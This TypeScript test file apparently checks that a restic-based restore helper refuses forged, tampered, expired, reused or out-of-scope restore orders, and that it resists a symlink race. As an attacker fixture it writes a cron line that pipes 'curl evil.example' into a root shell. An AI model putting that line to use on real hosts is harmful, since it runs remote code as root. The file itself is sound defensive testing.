/**
 * A compromised agent against the restore helper (issue 34): a client that speaks the helper's
 * wire directly, with the host's real repository credentials and a repository of its own holding
 * a planted "cron" file, tries every way around the server's signed order. The helper runs real
 * restic 0.18 and 0.14; nothing may land outside what an order signed by the pinned key says, and
 * an order runs once. A symlink planted in the target while the restore runs redirects nothing
 * (both versions follow a directory's link), and with 0.14 an in-place restore is refused.
 */
import { spawnSync } from "node:child_process";
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { connect } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { generateSigningKeyPair } from "@fleetback/crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { literalPattern } from "../restic/literal-pattern.js";
import type { ResticRunner } from "../restic/runner.js";
import { createSpawnRunner } from "../restic/spawn-adapter.js";
import { createOrderSigner, type OrderSpec } from "../testing/restore-orders.js";
import { RESTIC_VERSIONS, resticBinary, resticNote } from "../testing/tools.js";
import { createRestoreHelper, type RestoreHelper } from "./helper-server.js";
import {
  encodeFrame,
  HELPER_WIRE_VERSION,
  type HelperFrame,
  type HelperRequest,
  parseFrame,
} from "./helper-wire.js";
import { createOrderLedger } from "./order-ledger.js";

const PASSWORD = "canary-orders-4e1f-Pa55";

/** One request over the raw wire, as an agent that ignores its own checks would send it. */
function ask(socket: string, request: unknown): Promise<HelperFrame[]> {
  return new Promise((resolve, reject) => {
    const frames: HelperFrame[] = [];
    let buffered = "";
    const client = connect(socket, () => client.write(encodeFrame(request as HelperRequest)));
    client.on("data", (chunk) => {
      buffered += chunk.toString("utf8");
      let newline = buffered.indexOf("\n");
      while (newline !== -1) {
        const frame = parseFrame(buffered.slice(0, newline));
        if (frame !== undefined) {
          frames.push(frame);
        }
        buffered = buffered.slice(newline + 1);
        newline = buffered.indexOf("\n");
      }
    });
    client.on("error", reject);
    client.on("close", () => resolve(frames));
  });
}

const refusal = (frames: HelperFrame[]) => frames.find((frame) => frame.t === "refused");
const exit = (frames: HelperFrame[]) => frames.find((frame) => frame.t === "exit");

describe.each(RESTIC_VERSIONS)("a compromised agent against the restore helper, restic %s", (version) => {
  const binary = resticBinary(version) ?? "";
  describe.skipIf(binary === "")(`over the helper's own wire${resticNote(version)}`, () => {
    const root = mkdtempSync(join(tmpdir(), `helper-orders-${version}-`));
    const repo = join(root, "repo");
    const evilRepo = join(root, "evil-repo");
    const data = join(root, "data");
    const evilData = join(root, "evil");
    const cron = join(root, "cron.d");
    const signer = createOrderSigner();
    let snapshot = "";
    let evilSnapshot = "";
    let helper: RestoreHelper;
    const socket = join(root, "helper.sock");
    /** Runs before restic starts; the race test plants its symlink here. */
    let beforeRestic: (() => void) | undefined;

    const backup = (repository: string, path: string) => {
      const env = { ...process.env, RESTIC_REPOSITORY: repository, RESTIC_PASSWORD: PASSWORD };
      expect(spawnSync(binary, ["init"], { env }).status).toBe(0);
      expect(spawnSync(binary, ["backup", path], { env }).status).toBe(0);
      const listed = spawnSync(binary, ["snapshots", "--json"], { env, encoding: "utf8" });
      return (JSON.parse(listed.stdout) as { id: string }[])[0]?.id ?? "";
    };
    const request = (
      target: string,
      includes: string[],
      order: HelperRequest["order"],
      repository = repo,
      id = snapshot,
    ): HelperRequest => ({
      v: HELPER_WIRE_VERSION,
      args: ["--json", "restore", id, "--target", target, ...includes.flatMap((path) => ["--include", path])],
      env: { RESTIC_REPOSITORY: repository, RESTIC_PASSWORD: PASSWORD },
      ...(order === undefined ? {} : { order }),
    });
    const spec = (target: string, paths: string[], extra: Partial<OrderSpec> = {}): OrderSpec => ({
      repository: repo,
      snapshot,
      paths,
      target,
      ...extra,
    });

    beforeAll(async () => {
      mkdirSync(join(data, "etc"), { recursive: true });
      writeFileSync(join(data, "etc", "app.conf"), "good\n");
      mkdirSync(evilData, { recursive: true });
      writeFileSync(join(evilData, "evil"), "* * * * * root curl evil.example | sh\n");
      mkdirSync(cron);
      snapshot = backup(repo, data);
      evilSnapshot = backup(evilRepo, evilData);
      const spawn = createSpawnRunner();
      const runner: ResticRunner = {
        run(processSpec) {
          if (processSpec.args.includes("restore")) {
            beforeRestic?.();
          }
          return spawn.run(processSpec);
        },
      };
      helper = createRestoreHelper({
        runner,
        restic: binary,
        env: { PATH: process.env.PATH ?? "", HOME: root },
        cacheDir: undefined,
        protectedDirs: [join(root, "agent-state")],
        orderKey: signer.keys.publicKey,
        ledger: createOrderLedger(join(root, "helper-state")),
        stateDir: join(root, "helper-state"),
        now: () => new Date(),
        log: () => {},
      });
      await new Promise<void>((resolve) => helper.server.listen(socket, resolve));
    });
    afterAll(async () => {
      await helper.close();
    });

    it("runs an order the server signed, once", async () => {
      const target = join(root, "once");
      const order = signer.order(spec(target, [`${data}/etc`]));
      const first = await ask(socket, request(target, [`${data}/etc`], order));
      expect(refusal(first)).toBeUndefined();
      expect(exit(first)).toMatchObject({ code: 0 });
      expect(readFileSync(join(target, data, "etc", "app.conf"), "utf8")).toBe("good\n");
      const again = await ask(socket, request(join(root, "once"), [`${data}/etc`], order));
      expect(refusal(again)?.message).toMatch(/was used already/);
    });

    it("refuses a request with no order, or an order signed by any other key", async () => {
      const target = join(root, "unsigned");
      expect(refusal(await ask(socket, request(target, [`${data}/etc`], undefined)))?.message).toMatch(
        /carries no restore order signed by the server/,
      );
      const forged = signer.sign(signer.payload(spec(target, [`${data}/etc`])), generateSigningKeyPair());
      expect(refusal(await ask(socket, request(target, [`${data}/etc`], forged)))?.message).toMatch(
        /signature does not verify/,
      );
      expect(existsSync(target)).toBe(false);
    });

    it("refuses an order whose text was changed after signing", async () => {
      const good = signer.order(spec(join(root, "changed"), [`${data}/etc`]));
      const payload = good.payload.replace(join(root, "changed"), cron);
      const frames = await ask(socket, request(cron, [`${data}/etc`], { ...good, payload }));
      expect(refusal(frames)?.message).toMatch(/signature does not verify/);
      expect(readdirSync(cron)).toEqual([]);
    });

    it("refuses the attacker's own repository, another target, and paths the order does not name", async () => {
      // A genuine order for a harmless restore, reused for what the attacker wants.
      const target = join(root, "ordered");
      const order = () => signer.order(spec(target, [`${data}/etc`]));
      const fromEvil = await ask(
        socket,
        request(cron, [`${evilData}/evil`], order(), evilRepo, evilSnapshot),
      );
      expect(refusal(fromEvil)?.message).toMatch(/another repository than the order names/);
      const evilWithOrderedTarget = await ask(
        socket,
        request(target, [`${data}/etc`], order(), evilRepo, snapshot),
      );
      expect(refusal(evilWithOrderedTarget)?.message).toMatch(/another repository/);
      const elsewhere = await ask(socket, request(cron, [`${data}/etc`], order()));
      expect(refusal(elsewhere)?.message).toMatch(/restores to .*cron\.d, but the order names/);
      const more = await ask(socket, request(target, [`${data}/etc`, data], order()));
      expect(refusal(more)?.message).toMatch(/which the order does not name/);
      const otherSnapshot = await ask(socket, request(target, [`${data}/etc`], order(), repo, evilSnapshot));
      expect(refusal(otherSnapshot)?.message).toMatch(/another snapshot/);
      expect(readdirSync(cron)).toEqual([]);
      expect(existsSync(target)).toBe(false);
    });

    it("refuses glob and relative includes that would select more than the checked paths", async () => {
      const target = join(root, "globbed");
      const order = signer.order(spec(target, [`${data}/etc`]));
      for (const include of [`${data}/et?/app.conf`, `${data}/e*`, "app.conf", `${data}/[e]tc`]) {
        const frames = await ask(socket, request(target, [include], order));
        expect(refusal(frames)?.message).toMatch(/only absolute paths with every pattern character escaped/);
      }
      // The escaped form of a literal name passes the shape check (and then the order's).
      const literal = await ask(socket, request(target, [literalPattern(`${data}/etc`)], order));
      expect(exit(literal)).toMatchObject({ code: 0 });
    });

    it("refuses an expired order and an order for another host than the one it serves", async () => {
      const target = join(root, "late");
      const expired = signer.order(spec(target, [`${data}/etc`], { expiresAt: new Date(Date.now() - 1000) }));
      expect(refusal(await ask(socket, request(target, [`${data}/etc`], expired)))?.message).toMatch(
        /expired at/,
      );
      const foreign = signer.order(spec(target, [`${data}/etc`], { hostId: "01JZZZZZZZZZZZZZZZZZZZZZZZ" }));
      expect(refusal(await ask(socket, request(target, [`${data}/etc`], foreign)))?.message).toMatch(
        /serves host .* and the order is for host 01JZZZZZZZZZZZZZZZZZZZZZZZ/,
      );
      expect(existsSync(target)).toBe(false);
    });

    it("a symlink planted in the target while the restore runs redirects nothing", async () => {
      const target = join(root, "raced");
      const victim = join(root, "victim");
      mkdirSync(victim);
      const top = data.split("/")[1] ?? "";
      beforeRestic = () => {
        mkdirSync(target, { recursive: true });
        symlinkSync(victim, join(target, top));
      };
      try {
        const frames = await ask(
          socket,
          request(target, [`${data}/etc`], signer.order(spec(target, [`${data}/etc`]))),
        );
        // restic (0.14 and 0.18 alike) follows a directory's link: it wrote into the helper's own
        // staging dir instead, and the planted link keeps the result from moving in.
        expect(exit(frames)).toMatchObject({ code: 1 });
        expect(frames.some((frame) => frame.t === "line" && /no longer empty/.test(frame.x))).toBe(true);
        expect(readdirSync(victim)).toEqual([]);
      } finally {
        beforeRestic = undefined;
      }
    });

    it("restores in place only with restic 0.16 or later", async () => {
      writeFileSync(join(data, "etc", "app.conf"), "changed\n");
      const order = signer.order(spec("/", [`${data}/etc`]));
      const frames = await ask(socket, request("/", [`${data}/etc`], order));
      if (version === "0.14") {
        expect(refusal(frames)?.message).toMatch(/restores in place only with restic 0\.16 or later/);
        expect(readFileSync(join(data, "etc", "app.conf"), "utf8")).toBe("changed\n");
      } else {
        expect(exit(frames)).toMatchObject({ code: 0 });
        expect(readFileSync(join(data, "etc", "app.conf"), "utf8")).toBe("good\n");
      }
    });
  });
});

describe("a restore helper without a pinned key", () => {
  it("refuses every restore and says how to pin one", async () => {
    const root = mkdtempSync(join(tmpdir(), "helper-unpinned-"));
    const signer = createOrderSigner();
    const helper = createRestoreHelper({
      runner: createSpawnRunner(),
      restic: "restic",
      env: { PATH: process.env.PATH ?? "" },
      cacheDir: undefined,
      protectedDirs: [],
      orderKey: undefined,
      ledger: createOrderLedger(join(root, "state")),
      stateDir: join(root, "state"),
      now: () => new Date(),
      log: () => {},
    });
    const socket = join(root, "helper.sock");
    await new Promise<void>((resolve) => helper.server.listen(socket, resolve));
    try {
      const snapshot = "a".repeat(64);
      const order = signer.order({ repository: "/r", snapshot, paths: ["/srv"], target: join(root, "t") });
      const frames = await ask(socket, {
        v: HELPER_WIRE_VERSION,
        args: ["restore", snapshot, "--target", join(root, "t"), "--include", "/srv"],
        env: { RESTIC_REPOSITORY: "/r", RESTIC_PASSWORD: PASSWORD },
        order,
      });
      expect(refusal(frames)?.message).toMatch(/no restore-order key pinned .* re-run the installer/);
    } finally {
      await helper.close();
    }
  });
});
